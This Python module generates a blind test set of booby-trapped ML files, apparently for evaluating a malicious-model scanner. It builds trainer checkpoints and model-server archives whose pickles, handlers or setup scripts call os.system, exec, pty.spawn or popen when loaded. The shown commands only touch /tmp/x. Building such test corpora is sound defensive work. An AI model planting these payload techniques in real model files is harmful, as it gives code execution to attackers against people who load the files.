"""The third blind set: checkpoints of trainers and archives of model servers."""

# ruff: noqa: E501  (payloads stand on one line)

from __future__ import annotations

import base64
import zipfile
from collections.abc import Iterator
from typing import Any

from corpora.unseen3_base import (
    CODE,
    COMMANDS,
    Build,
    Sample,
    as_json,
    call,
    dumps,
    new,
    tarred,
    zipped,
)
from corpora.unseen3_torch import LOAD, archive, tensor

EVIL = call("os:system", COMMANDS[0])
Files = dict[str, bytes]


def _trainers() -> Iterator[tuple[str, Files, str, str]]:
    lightning = {
        "epoch": 3,
        "global_step": 10,
        "pytorch-lightning_version": "2.1.0",
        "state_dict": {},
        "hyper_parameters": {"lr": 0.1, "net": EVIL},
    }
    yield "lightning", {"epoch=3-step=10.ckpt": archive(lightning, "epoch=3-step=10")}, LOAD, "code"
    yield (
        "lightning-callback",
        {
            "last.ckpt": archive(
                {
                    **lightning,
                    "hyper_parameters": {},
                    "callbacks": {"ModelCheckpoint": {"best": call("builtins:exec", CODE[3])}},
                }
            )
        },
        LOAD,
        "code",
    )
    yield (
        "deepspeed",
        {
            "ckpt/mp_rank_00_model_states.pt": archive({"module": {}, "ds_config": EVIL}),
            "ckpt/zero_pp_rank_0_mp_rank_00_optim_states.pt": archive({"optimizer_state_dict": {}}),
        },
        LOAD,
        "code",
    )
    yield (
        "training-args",
        {
            "training_args.bin": archive(
                Build(new("transformers.training_args:TrainingArguments"), {"output_dir": "out", "hub_token": EVIL})
            )
        },
        LOAD,
        "code",
    )
    yield (
        "optimizer",
        {
            "optimizer.pt": archive({"state": {}, "param_groups": [{"lr": EVIL}]}),
            "scheduler.pt": archive({"base_lrs": [0.1]}),
        },
        LOAD,
        "code",
    )
    yield (
        "rng-state",
        {
            "rng_state.pth": archive(
                {
                    "python": (3, (1, 2), None),
                    "numpy": call(
                        "numpy.random._pickle:__randomstate_ctor",
                        call("numpy.random._pickle:__bit_generator_ctor", call("os:system", COMMANDS[2])),
                    ),
                }
            )
        },
        LOAD,
        "code",
    )
    yield (
        "fastai",
        {"export.pkl": archive(Build(new("fastai.learner:Learner"), {"model": EVIL}))},
        "from fastai.learner import load_learner; load_learner(f)",
        "code",
    )
    yield (
        "embedding",
        {"learned_embeds.bin": archive({"<cat>": tensor(), "name": call("pty:spawn", ["touch", "/tmp/x"])})},
        LOAD,
        "code",
    )
    yield (
        "lora",
        {
            "adapter_model.bin": archive({"base_model.model.q.lora_A.weight": EVIL}),
            "adapter_config.json": as_json({"peft_type": "LORA", "r": 4}),
        },
        LOAD,
        "code",
    )
    yield (
        "gan-pickle",
        {"network-snapshot.pkl": dumps({"G_ema": call("builtins:exec", CODE[0] + "\nclass Net: pass", {})}, 4)},
        "import pickle; pickle.load(open(f, 'rb'))",
        "code",
    )
    yield (
        "rvc",
        {
            "voice.pth": archive(
                {
                    "weight": {},
                    "config": [1, 2],
                    "info": call("webbrowser:_synthesize", "touch"),
                    "sr": call("os:popen", COMMANDS[0]),
                }
            )
        },
        LOAD,
        "code",
    )
    yield (
        "distcp",
        {
            "step/.metadata": dumps(
                Build(
                    new("torch.distributed.checkpoint.metadata:Metadata"),
                    {"state_dict_metadata": {}, "planner_data": EVIL},
                ),
                4,
            ),
            "step/__0_0.distcp": b"",
        },
        "from torch.distributed.checkpoint import FileSystemReader as R; R('/tmp/s/step').read_metadata()",
        "code",
    )
    serialized = base64.b64encode(dumps(EVIL, 4)).decode()
    policy = {"policy_class": {":type:": "<class 'abc.ABCMeta'>", ":serialized:": serialized}}
    yield (
        "stable-baselines",
        {"ppo.zip": zipped({"data": as_json(policy), "_stable_baselines3_version": b"2.3.0"})},
        "from stable_baselines3.common.save_util import load_from_zip_file; load_from_zip_file(f)",
        "code",
    )
    yield (
        "stable-baselines-tensors",
        {"dqn.zip": zipped({"data": b"{}", "policy.pth": archive(EVIL), "pytorch_variables.pth": archive(1)})},
        "import zipfile, io, torch; torch.load(io.BytesIO(zipfile.ZipFile(f).read('policy.pth')), weights_only=False)",
        "code",
    )


def _servers() -> Iterator[tuple[str, Files, str]]:
    manifest: dict[str, Any] = {
        "runtime": "python",
        "model": {"modelName": "net", "serializedFile": "net.pt", "handler": "handler.py", "modelVersion": "1.0"},
        "archiverVersion": "0.12.0",
    }
    head = "import sys, zipfile; zipfile.ZipFile(f).extractall('/tmp/s/m'); sys.path.insert(0, '/tmp/s/m'); "
    load = (
        head
        + "from ts.model_loader import ModelLoaderFactory as F; F.get_model_loader().load('net', '/tmp/s/m', HANDLER, None, None)"
    )
    handler = b"import os\n\nclass Handler:\n    def initialize(self, context):\n        os.system('touch /tmp/x')\n\ndef handle(data, context):\n    if context and data is None:\n        os.system('touch /tmp/x')\n    return data\n"
    run = head + "import handler; handler.handle(None, 1)"
    yield (
        "handler",
        {"net.mar": zipped({"MAR-INF/MANIFEST.json": as_json(manifest), "handler.py": handler, "net.pt": archive(1)})},
        load.replace("HANDLER", "'handler.py:handle'") + "; import handler; handler.handle(None, 1)",
    )
    yield (
        "handler-import",
        {
            "net.mar": zipped(
                {"MAR-INF/MANIFEST.json": as_json(manifest), "handler.py": CODE[0].encode() + b"\n" + handler}
            )
        },
        run,
    )
    yield (
        "handler-deflated",
        {
            "net.mar": zipped(
                {"MAR-INF/MANIFEST.json": as_json(manifest), "handler.py": CODE[4].encode() + b"\n" + handler},
                zipfile.ZIP_DEFLATED,
            )
        },
        run,
    )
    only = {
        "MAR-INF/MANIFEST.json": as_json({**manifest, "model": {**manifest["model"], "handler": "text_classifier"}}),
        "net.pt": archive(EVIL),
    }
    yield (
        "weights",
        {"net.mar": zipped(only)},
        "import io, zipfile, torch; torch.load(io.BytesIO(zipfile.ZipFile(f).read('net.pt')), weights_only=False)",
    )
    setup = {
        "MAR-INF/MANIFEST.json": as_json(
            {**manifest, "model": {**manifest["model"], "requirementsFile": "requirements.txt"}}
        ),
        "requirements.txt": b"./wheelhouse\n",
        "wheelhouse/setup.py": CODE[0].encode(),
        "net.pt": archive(1),
    }
    yield (
        "requirements",
        {"net.mar": zipped(setup)},
        head + "import runpy; runpy.run_path('/tmp/s/m/wheelhouse/setup.py')",
    )
    yield (
        "tgz",
        {"net.tar.gz": tarred({"MAR-INF/MANIFEST.json": as_json(manifest), "handler.py": CODE[1].encode()}, "w:gz")},
        "import sys, tarfile; tarfile.open(f).extractall('/tmp/s/m'); sys.path.insert(0, '/tmp/s/m'); import handler",
    )
    sagemaker = {
        "code/inference.py": CODE[0].encode() + b"\ndef model_fn(d):\n    return 1\n",
        "code/requirements.txt": b"torch\n",
        "model.pth": archive(1),
    }
    yield (
        "sagemaker",
        {"model.tar.gz": tarred(sagemaker, "w:gz")},
        "import sys, tarfile; tarfile.open(f).extractall('/tmp/s/m'); sys.path.insert(0, '/tmp/s/m/code'); import inference",
    )
    triton = {
        "repo/net/config.pbtxt": b'name: "net"\nbackend: "python"\n',
        "repo/net/1/model.py": CODE[0].encode() + b"\nclass TritonPythonModel:\n    pass\n",
    }
    yield "triton", triton, "import runpy; runpy.run_path('/tmp/s/repo/net/1/model.py')"


def samples() -> Iterator[Sample]:
    """What trainers keep and what servers load."""
    for name, files, loader in _servers():
        entry = "" if name == "triton" else None
        yield Sample(f"served/{name}", files, loader, "code", "extra+main", entry)
    for name, files, loader, effect in _trainers():
        yield Sample(f"trainer/{name}", files, loader, effect, "extra+main" if "stable" in name else "main")
